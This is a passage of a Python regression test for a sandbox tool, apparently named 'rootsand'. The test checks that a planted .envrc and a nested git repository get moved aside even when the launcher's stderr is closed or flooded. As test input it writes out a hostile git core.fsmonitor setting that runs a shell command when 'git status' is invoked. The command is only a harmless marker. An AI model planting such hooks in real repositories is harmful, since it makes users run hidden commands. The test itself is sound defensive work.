    non-blocking and filled it, planted a top-level .envrc (moved aside, with a warning that raised) and a
    repository below it, whose core.fsmonitor the git check then never saw: the user's `git status` there
    ran it. Every check runs now; a warning nobody can read is lost, one read slowly is waited for."""
    proj = git_repo(tmp_path / "proj")
    plant = ("touch .envrc; mkdir sub; cd sub; git init -q .; git config core.fsmonitor 'touch ../../ran; false'")
    if stderr == "non-blocking":
        plant += ('; python3 -c "import fcntl, os; fcntl.fcntl(2, fcntl.F_SETFL, os.O_NONBLOCK)\n'
                  'try:\n    while True: os.write(2, b\'x\' * 4096)\nexcept BlockingIOError: pass"')
    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", plant], cwd=proj, env=env_in(proj),
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    if stderr == "gone":
        proc.stderr.close()  # `| head -1` after its line: every write of the launcher's fails with EPIPE
        assert proc.wait(timeout=60) == 0
        said = b""
    else:  # a reader slower than the sandbox: it starts reading once the sandbox has filled the pipe
        time.sleep(2)
        said = proc.stderr.read()
        assert proc.wait(timeout=60) == 0
    assert sorted(STAMP.sub("STAMP", name) for name in os.listdir(proj)) == [".envrc.STAMP", ".git", "sub"]
    assert [STAMP.sub("STAMP", name) for name in os.listdir(proj / "sub")] == [".git.STAMP"]  # the planted repository
    subprocess.run(["git", "-C", str(proj / "sub"), "status"], capture_output=True)
    assert not (tmp_path / "ran").exists()
    if stderr == "non-blocking":
        assert said.count(b"rootsand: warning:") >= 2, said[-2000:]
